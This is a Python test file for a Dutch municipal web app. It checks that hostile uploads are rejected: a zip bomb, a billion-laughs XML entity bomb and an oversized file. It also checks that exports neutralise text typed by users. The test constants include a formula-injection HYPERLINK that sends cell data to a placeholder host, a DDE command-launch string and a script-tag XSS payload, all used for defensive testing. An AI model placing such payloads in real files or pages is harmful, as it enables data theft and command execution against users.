"""Hostile files and what the exports write back: archives that unpack to gigabytes, XML
entity bombs, huge files in a form are a clear 400 or 413 that stores nothing; text that users
typed (party names, risks, imported recommendations) is inert in every export that shows it.

Imports (formula cells, broken XLSX, wrong encodings, the size limit on a raw body) have their
own tests in tests/verbeterplan/test_import_hostile.py."""

import csv
import io
import zipfile

import openpyxl
from httpx import AsyncClient, Response

from app.core.uploads.tables import MAX_UNPACKED_BYTES
from tests.auth_headers import (
    BEHEERDER_ARNHEM,
    BEHEERDER_RENKUM,
    MT_ARNHEM,
    REGIEVOERDER_ARNHEM,
)
from tests.conftest import DemoIds
from tests.verbeterplan.helpers import XLSX, csv_of, import_csv, plan
from tests.voortgang.steps import open_round

HYPERLINK = '=HYPERLINK("http://voorbeeld.invalid/?d="&A1,"Klik")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
SCRIPT = "<script>alert('x')</script>"


async def upload(client: AsyncClient, content: bytes, media_type: str = XLSX) -> Response:
    return await client.post(
        "/aanbevelingen/_import",
        content=content,
        headers={**BEHEERDER_RENKUM, "Content-Type": media_type},
    )


def workbook(*rows: list[str]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Nr", "Aanbeveling", "Reactie", "Actie", "Wie", "Planning"])
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_sheet(content: bytes, sheet_xml: bytes) -> bytes:
    """The workbook `content` with its first sheet's XML replaced."""
    result = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            data = source.read(item.filename)
            target.writestr(item, sheet_xml if item.filename.endswith("sheet1.xml") else data)
    return result.getvalue()


def billion_laughs() -> bytes:
    entities = "".join(
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)
    )
    return (
        '<?xml version="1.0"?><!DOCTYPE bom [<!ENTITY lol0 "lol">' + entities + "]>"
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()


async def test_an_xlsx_that_unpacks_past_the_limit_is_400_before_it_is_unpacked(
    client: AsyncClient,
) -> None:
    padding = b" " * (MAX_UNPACKED_BYTES + 1)  # compresses a thousandfold
    bomb = with_sheet(workbook(["A", "Tekst", "", "", "", ""]), padding)
    assert len(bomb) < 1024 * 1024

    response = await upload(client, bomb)

    assert response.status_code == 400, response.text
    assert "unpacks" in response.json()["invalidParams"][0]["reason"]
    assert await plan(client, BEHEERDER_RENKUM) == []


async def test_an_xlsx_with_an_xml_entity_bomb_is_400_and_stores_nothing(
    client: AsyncClient,
) -> None:
    bomb = with_sheet(workbook(["A", "Tekst", "", "", "", ""]), billion_laughs())

    response = await upload(client, bomb)

    assert response.status_code == 400, response.text
    assert response.json()["invalidParams"][0]["name"] == "bestand"
    assert await plan(client, BEHEERDER_RENKUM) == []


async def test_a_huge_file_in_a_form_is_413_and_stores_nothing(client: AsyncClient) -> None:
    content = csv_of("A;Tekst;;;;") + b"x" * (3 * 1024 * 1024)

    response = await client.post(
        "/aanbevelingen/_import",
        files={"bestand": ("plan.csv", content, "text/csv")},
        headers=BEHEERDER_RENKUM,
    )

    assert response.status_code == 413
    assert response.headers["content-type"] == "application/problem+json"
    assert await plan(client, BEHEERDER_RENKUM) == []


async def test_a_utf16_csv_without_its_byte_order_mark_is_400_and_stores_nothing(
    client: AsyncClient,
) -> None:
    content = "Nr;Aanbeveling\r\nA;Tekst\r\n".encode("utf-16-le")

    response = await import_csv(client, content, BEHEERDER_RENKUM)

    assert response.status_code == 400
    assert "control character" in response.json()["invalidParams"][0]["reason"]
    assert await plan(client, BEHEERDER_RENKUM) == []


def csv_rows(response: Response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_cells(response: Response) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


async def test_party_names_and_risks_typed_by_users_are_inert_in_the_bbv_exports(
    client: AsyncClient, demo: DemoIds
) -> None:
    party = await client.post(
        "/verbonden-partijen",
        headers=BEHEERDER_ARNHEM,
        json={
            "naam": HYPERLINK,
            "vestigingsplaats": "+31 Arnhem",
            "bbvCategorie": "overig",
            "rechtsvorm": "overig",
            "openbaarBelang": "-2+3",
        },
    )
    assert party.status_code == 201, party.text
    risk = await client.post(
        f"/verbonden-partijen/{demo.party('De Connectie')}/risicos",
        headers=REGIEVOERDER_ARNHEM,
        json={"omschrijving": DDE, "kans": 5, "impact": 5, "eigenaar": "=1+1"},
    )
    assert risk.status_code == 201, risk.text

    as_csv = await client.get("/bbv-paragraaf/2026?formaat=csv", headers=MT_ARNHEM)
    as_xlsx = await client.get("/bbv-paragraaf/2026?formaat=xlsx", headers=MT_ARNHEM)

    row = next(row for row in csv_rows(as_csv) if row["Naam"].endswith(HYPERLINK))
    assert (row["Naam"], row["Vestigingsplaats"], row["Openbaar belang"]) == (
        f"'{HYPERLINK}",
        "'+31 Arnhem",
        "'-2+3",
    )
    connectie = next(row for row in csv_rows(as_csv) if row["Naam"] == "De Connectie")
    assert DDE in connectie["Materiële risico's (eigen register)"]
    cells = xlsx_cells(as_xlsx)
    assert not any(cell.data_type == "f" for cell in cells)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert {f"'{HYPERLINK}", f"'{DDE}", "'=1+1"} <= texts
    assert not texts & {HYPERLINK, DDE, "=1+1"}


async def test_an_imported_recommendation_shows_as_inert_text_in_the_mt_report(
    client: AsyncClient,
) -> None:
    """No CSV or XLSX export writes recommendations back; the MT report (HTML and PDF) shows
    them with their overdue actions: as escaped text, never as markup or a formula."""
    imported = await import_csv(
        client,
        csv_of(f'Z;"{HYPERLINK.replace(chr(34), chr(34) * 2)}";;{SCRIPT};{SCRIPT};eind 2025'),
        BEHEERDER_ARNHEM,
    )
    assert imported.status_code == 200, imported.text
    ronde = await open_round(client, "2026-H1", "2026-07-15")

    report = await client.get(
        f"/rapportagerondes/{ronde.json()['id']}/mt-rapport",
        headers={**MT_ARNHEM, "Accept": "text/html"},
    )

    assert report.status_code == 200, report.text
    assert SCRIPT not in report.text
    assert "&lt;script&gt;" in report.text
    assert "=HYPERLINK(&#34;http://voorbeeld.invalid/" in report.text
